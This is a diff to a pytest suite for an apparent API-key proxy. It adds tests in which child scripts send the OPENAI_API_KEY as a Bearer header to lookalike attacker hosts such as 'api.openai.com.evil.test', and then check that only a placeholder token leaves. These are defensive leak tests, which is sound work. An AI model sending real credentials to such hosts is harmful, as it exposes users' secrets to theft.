@@ -138,9 +138,11 @@ def test_exit_status_and_cleanup(run_in_netns):
     assert not os.path.exists(bundle) and not os.path.exists(os.path.dirname(bundle))
 
 
-def test_killed_child_reports_signal(run_in_netns):
-    result = run_in_netns(["sh", "-c", "kill -TERM $$"])
+def test_killed_child_reports_signal_and_leaves_nothing(run_in_netns):
+    result = run_in_netns(["sh", "-c", 'echo "$SSL_CERT_FILE"; kill -TERM $$'])
     assert result.status == 128 + 15
+    bundle = result.stdout.strip()
+    assert bundle.endswith("ca-bundle.pem") and not os.path.exists(os.path.dirname(bundle))
 
 
 @pytest.mark.parametrize("signame", ["SIGTERM", "SIGINT", "SIGHUP"])
@@ -193,3 +195,60 @@ def test_child_environment_holds_placeholders_and_one_trust_bundle(run_in_netns,
     dumped = result.stdout
     for secret in [OPENAI_KEY, *unlocking.values()]:
         assert secret not in dumped
+
+
+LOOKALIKES = ["https://api.openai.com.evil.test/echo", "https://evil-api.openai.com/echo"]
+PER_CLIENT = {
+    "requests": """
+        import os, sys, requests
+        auth = {"Authorization": "Bearer " + os.environ["OPENAI_API_KEY"]}
+        for url in sys.argv[2:4]:
+            print(requests.get(url, headers=auth).status_code)
+        print(requests.get("https://unmatched.example/echo", verify=sys.argv[1]).status_code)
+    """,
+    "httpx": """
+        import os, ssl, sys, httpx
+        auth = {"Authorization": "Bearer " + os.environ["OPENAI_API_KEY"]}
+        for url in sys.argv[2:4]:
+            print(httpx.get(url, headers=auth).status_code)
+        print(httpx.get("https://unmatched.example/echo", verify=ssl.create_default_context(cafile=sys.argv[1])).status_code)
+    """,
+    "aiohttp": """
+        import asyncio, os, ssl, sys, aiohttp
+        async def main():
+            auth = {"Authorization": "Bearer " + os.environ["OPENAI_API_KEY"]}
+            async with aiohttp.ClientSession(trust_env=True) as s:
+                for url in sys.argv[2:4]:
+                    async with s.get(url, headers=auth) as r:
+                        print(r.status)
+                only_test_ca = ssl.create_default_context(cafile=sys.argv[1])
+                async with s.get("https://unmatched.example/echo", ssl=only_test_ca) as r:
+                    print(r.status)
+        asyncio.run(main())
+    """,
+}
+
+
+@pytest.mark.parametrize("client", [*PER_CLIENT, "node"])
+def test_each_client_lookalikes_get_nothing_and_unmatched_is_tunnelled(run_in_netns, pki, client):
+    if client == "node":
+        js = (
+            "(async () => { const auth = { Authorization: 'Bearer ' + process.env.OPENAI_API_KEY };"
+            " for (const url of process.argv.slice(1)) console.log((await fetch(url, { headers: auth })).status);"
+            " console.log((await fetch('https://unmatched.example/echo')).status); })()"
+            ".catch((e) => { console.error(e); process.exit(3); });"
+        )
+        cmd = ["node", "-e", js, *LOOKALIKES]
+    else:
+        cmd = [*python_child(PER_CLIENT[client]), pki["ca"], *LOOKALIKES]
+    result = run_in_netns(cmd)
+    assert result.status == 0, result.stderr
+    assert result.stdout.split() == ["200", "200", "200"]
+    assert [r["sni"] for r in result.records] == [
+        "api.openai.com.evil.test",
+        "evil-api.openai.com",
+        "unmatched.example",
+    ]
+    assert all(r["authorization"] in (None, "Bearer authsome-proxy-managed") for r in result.records)
+    assert result.audit == []
+    assert_key_only_at_openai(result)
